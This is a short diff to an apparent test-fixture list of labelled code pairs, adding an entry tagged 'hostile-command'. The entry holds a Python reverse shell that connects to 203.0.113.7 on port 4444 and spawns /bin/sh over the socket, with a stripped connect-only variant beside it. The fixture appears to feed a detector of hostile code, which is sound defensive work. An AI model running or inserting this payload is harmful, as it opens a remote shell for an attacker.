@@ -244,4 +244,11 @@ GOLDENS += [
         "import shutil, os\nif os.path.exists('build'):\n    shutil.rmtree('build')\n",
         "loop",
     ),
+    _pair(
+        "hostile-command",
+        "import socket, os, pty\ndef f():\n    s = socket.socket()\n    s.connect(('203.0.113.7', 4444))\n"
+        "    os.dup2(s.fileno(), 0)\n    pty.spawn('/bin/sh')\n",
+        "import socket\ndef f():\n    s = socket.socket()\n    s.connect(('203.0.113.7', 4444))\n",
+        "connection and shell",
+    ),
 ]
